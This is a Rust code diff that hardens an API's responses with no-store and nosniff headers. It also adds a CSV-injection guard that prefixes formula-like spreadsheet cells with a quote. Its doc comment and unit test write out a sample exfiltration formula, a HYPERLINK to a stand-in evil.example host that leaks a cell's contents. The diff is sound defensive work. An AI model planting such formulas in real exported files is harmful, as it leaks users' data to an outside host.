@@ -169,6 +169,7 @@ impl Reply {
         Ok(if outcome.replayed { reply.with_header("idempotent-replayed", "true".to_owned()) } else { reply })
     }
 
+    /// A CSV file. Build its cells with [`spreadsheet_cell`].
     pub fn csv(body: Vec<u8>, file_name: &str) -> Reply {
         Reply {
             status: 200,
@@ -202,8 +203,15 @@ pub fn status_of(class: Class) -> u16 {
     }
 }
 
+/// Every answer of the API: answers carry personal data (names, masked contacts, IDs), so
+/// no cache — the browser's, a proxy's — keeps them (`no-store`), and none is sniffed into
+/// another type than it says (`nosniff`: a CSV or JSON never runs as a page).
 fn response(status: u16, content_type: &str, body: Vec<u8>, headers: &[(&str, String)]) -> Response<Body> {
-    let mut builder = Response::builder().status(status).header("content-type", content_type);
+    let mut builder = Response::builder()
+        .status(status)
+        .header("content-type", content_type)
+        .header("cache-control", "no-store")
+        .header("x-content-type-options", "nosniff");
     for (name, value) in headers {
         builder = builder.header(*name, value.as_str());
     }
@@ -391,10 +399,32 @@ impl<R> Incoming<R> {
     }
 }
 
+/// A CSV cell a spreadsheet program will not run: a value starting with `=`, `+`, `-`, `@`,
+/// a tab or a carriage return would be taken as a formula (CSV injection:
+/// `=HYPERLINK("http://evil.example/?leak="&A2, …)` in a payment reference); such a value is
+/// prefixed with a single quote, as OWASP advises, which spreadsheets show as text. (The
+/// `csv` writer then quotes the cell as RFC 4180 requires.)
+pub fn spreadsheet_cell(value: String) -> String {
+    match value.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{value}"),
+        _ => value,
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
     use serde::Deserialize;
+
+    #[test]
+    fn a_cell_a_spreadsheet_would_run_is_kept_as_text() {
+        for formula in ["=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"x\")", "+1", "-2+3", "@SUM(A1)", "\tx", "\r=1"] {
+            assert_eq!(spreadsheet_cell(formula.to_owned()), format!("'{formula}"), "{formula:?}");
+        }
+        for plain in ["150.00", "INV-1", "سارة", "", "a=b", "'quoted"] {
+            assert_eq!(spreadsheet_cell(plain.to_owned()), plain, "{plain:?}");
+        }
+    }
 
     #[derive(Debug, Deserialize, PartialEq)]
     #[serde(deny_unknown_fields)]
